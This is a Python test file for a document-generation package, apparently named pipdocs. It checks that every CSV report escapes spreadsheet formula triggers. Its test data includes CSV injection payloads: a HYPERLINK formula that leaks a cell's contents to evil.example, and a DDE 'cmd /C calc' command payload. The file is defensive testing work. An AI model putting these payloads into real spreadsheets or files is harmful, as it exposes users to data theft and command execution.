"""Spreadsheet injection in the CSV files pipdocs writes: a cell a spreadsheet would run as a
formula (first character = + - @ tab or CR) comes out as text, in every CSV pipdocs writes.

The class is closed in two steps: every CSV writer in the package is the one formula-safe
writer (checked from the source), and that writer neutralises every trigger; the two reports
that use it (a plan sheet's and a check-in sheet's) are run end to end with hostile plan ids.
No LibreOffice: no row here is good enough to convert.
"""

from __future__ import annotations

import ast
import csv
from pathlib import Path

import pytest

from pipdocs.bulk.records import REPORT, RowOutcome, write_report

PACKAGE = Path(__file__).resolve().parent.parent / "pipdocs"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)"]


def read_report(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _csv_writers() -> list[str]:
    """Every call of csv.writer / csv.DictWriter in the package, as module:function."""
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text("utf-8"))
        for func in [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]:
            for node in ast.walk(func):
                if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                        and node.func.attr in ("writer", "DictWriter")
                        and isinstance(node.func.value, ast.Name)
                        and node.func.value.id == "csv"):
                    found.append(f"{path.relative_to(PACKAGE).as_posix()}:{func.name}")
    return found


def test_every_csv_pipdocs_writes_goes_through_the_formula_safe_writer() -> None:
    assert _csv_writers() == ["bulk/records.py:write_report"]


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_the_report_writer_neutralises_each_trigger(trigger: str, tmp_path: Path) -> None:
    value = f"{trigger}HYPERLINK(\"https://evil.example\")"
    write_report(tmp_path / REPORT, [
        RowOutcome(2, value, "error", value, value), RowOutcome(3, "PIP-1", "ok", "PIP-1.pdf")])
    header, hostile, plain = read_report(tmp_path / REPORT)
    assert header == ["row", "plan_id", "status", "output", "message"]
    assert hostile == ["2", "'" + value, "error", "'" + value, "'" + value]
    assert plain == ["3", "PIP-1", "ok", "PIP-1.pdf", ""]  # nothing else is touched


def test_a_plan_sheet_report_neutralises_hostile_plan_ids(tmp_path: Path) -> None:
    from pipdocs.bulk.run import run_bulk

    sheet = tmp_path / "plans.csv"
    sheet.write_text("plan_id,language,role\n" + "".join(
        f'"{p.replace(chr(34), chr(34) * 2)}",en,sales\n' for p in HOSTILE), encoding="utf-8")
    summary = run_bulk(sheet, tmp_path / "out", fmt="docx")
    assert summary.failed == len(HOSTILE)
    rows = read_report(tmp_path / "out" / REPORT)[1:]
    assert [row[1] for row in rows] == ["'" + p for p in HOSTILE]
    assert all(cell[:1] not in TRIGGERS for row in rows for cell in row)


def test_a_checkin_sheet_report_neutralises_hostile_plan_ids(tmp_path: Path) -> None:
    """Before, the check-in sheet had its own report writer without formula_safe: a plan id of
    =HYPERLINK(...) went into report.csv as a live formula."""
    from pipdocs.lifecycle.checkinsheet import run_checkin_sheet
    from pipdocs.lifecycle.make import Options

    plans = tmp_path / "plans"
    plans.mkdir()
    sheet = tmp_path / "week.csv"
    sheet.write_text("plan_id,date,goals.1.progress,goals.1.status,manager_feedback\n" + "".join(
        f'"{p.replace(chr(34), chr(34) * 2)}",2025-12-03,x,on_track,ok\n' for p in HOSTILE),
        encoding="utf-8")
    result = run_checkin_sheet(sheet, plans, tmp_path / "out", Options())
    assert (result.made, result.failed) == (0, len(HOSTILE))
    rows = read_report(tmp_path / "out" / REPORT)[1:]
    assert [row[1] for row in rows] == ["'" + p for p in HOSTILE]
    assert all("no signed plan" in row[4] for row in rows)
    assert all(cell[:1] not in TRIGGERS for row in rows for cell in row)
